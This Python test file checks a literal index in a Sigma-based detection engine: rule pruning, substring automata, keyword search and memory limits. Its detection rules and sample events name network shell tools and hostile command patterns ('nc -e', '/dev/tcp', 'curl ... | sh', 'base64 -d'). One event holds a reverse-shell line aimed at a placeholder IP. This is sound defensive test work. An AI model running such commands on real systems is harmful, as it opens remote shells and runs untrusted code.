"""The literal index (engine/index.py): it prunes only rules that cannot match, and matching
through it gives what the category's compiled function gives."""

from __future__ import annotations

from index_rules import condition_of, rule
from sigma.collection import SigmaCollection

from hpcsec.detector.engine.evaluate import Engine
from hpcsec.detector.engine.index import required_keys
from hpcsec.detector.engine.literal_index import (
    ANY_FIELD,
    FEW_LITERALS,
    KNOWN_NAMES_MAX,
    MEMO_MAX,
    MEMO_TEXT_MAX,
    LiteralIndex,
)
from hpcsec.detector.engine.ruleset import LoadedRule, RuleSet


def test_keys_come_from_positive_parts_only():
    sel = {"process.name": "nc"}
    keys = required_keys(
        condition_of({"sel": sel, "f": {"user.name": "bob"}, "condition": "sel and not f"})
    )
    assert keys == {("process.name", "eq", "nc")}
    # a rule true without any literal of its own is never pruned
    assert required_keys(condition_of({"sel": sel, "condition": "not sel"})) is None
    assert (
        required_keys(
            condition_of({"sel": sel, "k": {"process.pid|gt": 3}, "condition": "sel or k"})
        )
        is None
    )
    # keywords look in every searched field; a regex needs its literal
    assert required_keys(condition_of({"k": ["evil"], "condition": "k"})) == {
        (ANY_FIELD, "contains", "evil")
    }
    regex = {"sel": {"process.name|re": "^(py|ba)thon[0-9]"}, "condition": "sel"}
    assert required_keys(condition_of(regex)) == {("process.name", "contains", "thon")}
    short = {"sel": {"process.name|re": "^(py|ba)t?on[0-9]"}, "condition": "sel"}
    # "on" shows in too many values: the pattern itself is the key (searched in one RE2 pass)
    assert required_keys(condition_of(short)) == {("process.name", "re", "^(py|ba)t?on[0-9]")}
    flagged = {"sel": {"process.name|re|i|s": "^a.?b"}, "condition": "sel"}
    assert required_keys(condition_of(flagged)) == {("process.name", "re", "(?is)^a.?b")}
    assert (
        required_keys(condition_of({"sel": {"process.name|cased": "NC"}, "condition": "sel"}))
        is None
    )
    either = condition_of(
        {
            "a": {"process.name|startswith": "Py"},
            "b": {"process.command_line|endswith": "sh"},
            "condition": "1 of them",
        }
    )
    assert required_keys(either) == {
        ("process.name", "startswith", "py"),
        ("process.command_line", "endswith", "sh"),
    }
    glob = condition_of({"sel": {"file.path": "/tmp/*/evil_?.so"}, "condition": "sel"})
    assert required_keys(glob) == {("file.path", "startswith", "/tmp/")}
    glob = condition_of({"sel": {"file.path": "*/evil_?.so"}, "condition": "sel"})
    assert required_keys(glob) == {("file.path", "contains", "/evil_")}  # not `.so` at the end
    glob = condition_of({"sel": {"file.path": "*/e?il.so?"}, "condition": "sel"})
    assert required_keys(glob) == {("file.path", "contains", "il.so")}  # `?` after it: no suffix
    # a file extension alone shows in most paths: the longer literals prune more
    either = condition_of(
        {
            "sel": {"process.name|contains": ["\\EDR-Freeze", "\\EDRFreeze"]},
            "ext": {"process.name|endswith": ".exe"},
            "condition": "sel and ext",
        }
    )
    assert required_keys(either) == {
        ("process.name", "contains", "\\edr-freeze"),
        ("process.name", "contains", "\\edrfreeze"),
    }


def test_candidates_are_the_rules_whose_literals_the_event_shows():
    index = LiteralIndex(
        [
            frozenset({("process.name", "eq", "nc")}),
            frozenset({("process.command_line", "contains", "/dev/tcp")}),
            frozenset({("process.command_line", "startswith", "curl")}),
            frozenset({("process.command_line", "endswith", "| sh")}),
        ]
    )
    event = {"process.name": "NC", "process.command_line": "bash -i >& /DEV/TCP/1.2.3.4/9 | sh"}
    assert index.candidates(event) == {0, 1, 3}
    assert index.candidates({"process.command_line": ["x", "curl -s x"]}) == {2}
    assert index.candidates({"process.name": "ncat"}) == set()


RULES = [
    {
        "sel": {"process.name": ["nc", "ncat"]},
        "f": {"user.name": "adm"},
        "condition": "sel and not f",
    },
    {"sel": {"process.args|contains": "--lua-exec"}, "condition": "sel"},
    {"sel": {"process.pid": "5"}, "condition": "sel"},  # a string value matches the number 5
    {"sel": {"process.command_line|contains|all": ["curl", "| sh"]}, "condition": "sel"},
    {"sel": {"process.command_line|re": "wget .*\\|"}, "condition": "sel"},  # key "wget "
    {"sel": {"process.name": "nc"}, "condition": "not sel"},
    {"sel": {"process.command_line|windash|contains": "-enc"}, "condition": "sel"},
    {"sel": {"process.command_line|re": "^w.*\\|"}, "condition": "sel"},  # no key: fallback
]
EVENTS = [
    {"event.category": "process", "process.name": "NC", "user.name": "alice"},
    {"event.category": "process", "process.name": "ncat", "user.name": "adm"},
    {"event.category": "process", "process.args": ["ncat", "--LUA-exec=x"]},
    {"event.category": "process", "process.pid": 5},
    {"event.category": "process", "process.command_line": "curl x | sh"},
    {"event.category": "process", "process.command_line": "wget y | sh /enc"},
    {"event.category": "process", "process.command_line": "ps \u2013enc aa"},
]


def matches(engine: Engine) -> list[list[str]]:
    return [sorted(m.rule.id for m in engine.evaluate([e])) for e in EVENTS]


def test_indexed_engine_matches_what_the_compiled_path_matches():
    collection = SigmaCollection.from_dicts([rule(n, d) for n, d in enumerate(RULES)])
    ruleset = RuleSet([LoadedRule(r, "<index>", 1, "test") for r in collection.rules])
    indexed, plain = Engine(ruleset, index_min=1), Engine(ruleset, index_min=10**6)
    got = matches(indexed)
    assert got == matches(plain)
    ids = [str(r.id) for r in collection.rules]
    assert got[0] == [ids[0]]
    assert got[1] == [ids[5]]  # the admin is filtered out; `not sel` fires
    assert got[2] == [ids[1], ids[5]]
    assert got[3] == [ids[2], ids[5]]
    assert got[4] == [ids[3], ids[5]]
    assert got[5] == [ids[4], ids[5], ids[6], ids[7]]
    assert got[6] == [ids[5], ids[6]]


def test_few_literals_and_the_automaton_find_the_same_candidates():
    """A field with few substring literals tests them one by one; with more, one automaton
    scans the value: both name the same rules."""
    literals = ["curl", "| sh", "/dev/tcp", "wget ", "nc -e", "base64 -d"]
    kinds = ["contains", "startswith", "endswith"]
    keys = [
        frozenset({("process.command_line", kinds[n % 3], literal)})
        for n, literal in enumerate(literals)
    ]
    texts = ["curl x | sh", "wget y", "/dev/tcp/1", "x nc -e curl", "base64 -d | sh", "none"]
    few = LiteralIndex(keys[:FEW_LITERALS])
    assert few.fields["process.command_line"].automaton is None
    many = LiteralIndex(keys)
    assert many.fields["process.command_line"].automaton is not None
    for text in texts:
        event = {"process.command_line": text.upper()}
        expected = {
            n
            for n, literal in enumerate(literals)
            if getattr(text, kinds[n % 3].replace("contains", "__contains__"))(literal)
        }
        assert many.candidates(event) == expected, text
        assert few.candidates(event) == {n for n in expected if n < FEW_LITERALS}, text


def test_a_field_keywords_search_is_probed_with_its_literals_and_the_keywords():
    """One probe per field: its own literals and the keywords', merged where keywords search
    the field (`slurm.*` only in `slurm_job` events, never `hpcsec.*` or NOT_SEARCHED)."""
    index = LiteralIndex(
        [
            frozenset({("process.command_line", "contains", "curl")}),
            frozenset({(ANY_FIELD, "contains", "evil")}),
            frozenset({("slurm.job.name", "eq", "miner")}),
            frozenset({("hpcsec.asset", "startswith", "gpu")}),
        ]
    )
    event = {
        "event.category": "process",
        "process.command_line": "curl EVIL.sh",
        "slurm.job.name": "evil miner",
        "hpcsec.asset": "gpu-evil-01",
    }
    assert index.candidates(event) == {0, 1, 3}
    assert index.candidates({**event, "process.command_line": "ls"}) == {3}  # not slurm.*
    # a slurm_job event's slurm.* fields are observed: keywords search them
    slurm_job = {**event, "event.category": "slurm_job", "process.command_line": "ls"}
    assert index.candidates(slurm_job) == {1, 3}
    assert index.candidates({**slurm_job, "slurm.job.name": "MINER"}) == {2, 3}
    # hpcsec.* is never searched by keywords; lists are probed element by element, objects not
    assert index.candidates({"event.category": "x", "hpcsec.asset": "evil"}) == set()
    assert index.candidates({"event.category": "x", "process.args": [1, None, "Evil"]}) == {1}
    assert index.candidates({"event.category": "x", "process.args": {"a": "evil"}}) == set()


def test_hostile_field_names_do_not_grow_the_index_nor_blind_it():
    """The index remembers how to probe each field name it meets, but only so many: an event
    with endless new names neither grows it past KNOWN_NAMES_MAX nor hides a literal."""
    index = LiteralIndex(
        [
            frozenset({("process.name", "eq", "nc")}),
            frozenset({(ANY_FIELD, "contains", "evil")}),
        ]
    )
    flood = {f"x{n}": "benign" for n in range(2 * KNOWN_NAMES_MAX)}
    assert index.candidates({"event.category": "p", **flood}) == set()
    event = {"event.category": "p", **flood, "process.name": "NC", "late.name": "so evil"}
    assert index.candidates(event) == {0, 1}
    assert all(len(known) <= KNOWN_NAMES_MAX for known in index._known)


def test_a_text_met_again_shows_what_it_showed_in_its_own_field_only():
    """What a text showed is remembered per field and per way of probing it: the same text in
    another field, or in a `slurm_job` event (keywords search `slurm.*` there), is probed anew."""
    index = LiteralIndex(
        [
            frozenset({("process.name", "eq", "nc")}),
            frozenset({("user.name", "contains", "nc")}),
            frozenset({(ANY_FIELD, "contains", "evil")}),
            frozenset({("process.name", "re", "^[A-Z]")}),
        ]
    )
    for _ in range(2):  # the second time from memory
        assert index.candidates({"event.category": "p", "process.name": "nc"}) == {0}
        assert index.candidates({"event.category": "p", "process.name": "Nc"}) == {0, 3}
        assert index.candidates({"event.category": "p", "user.name": "nc"}) == {1}
        assert index.candidates({"event.category": "p", "slurm.job.name": "evil"}) == set()
        assert index.candidates({"event.category": "slurm_job", "slurm.job.name": "evil"}) == {2}


def test_hostile_texts_only_make_the_memory_forget():
    index = LiteralIndex([frozenset({("process.name", "contains", "nc")})])
    field = index.fields["process.name"]
    for n in range(3 * MEMO_MAX):
        assert index.candidates({"process.name": f"nc{n}"}) == {0}
        assert index.candidates({"process.name": f"x{n}"}) == set()
        assert len(field.memo) <= MEMO_MAX
    long = "x" * MEMO_TEXT_MAX + "nc"
    assert index.candidates({"process.name": long}) == {0}
    assert long not in field.memo
    assert index.candidates({"process.name": ["nc", "x"]}) == {0}  # lists are probed each time
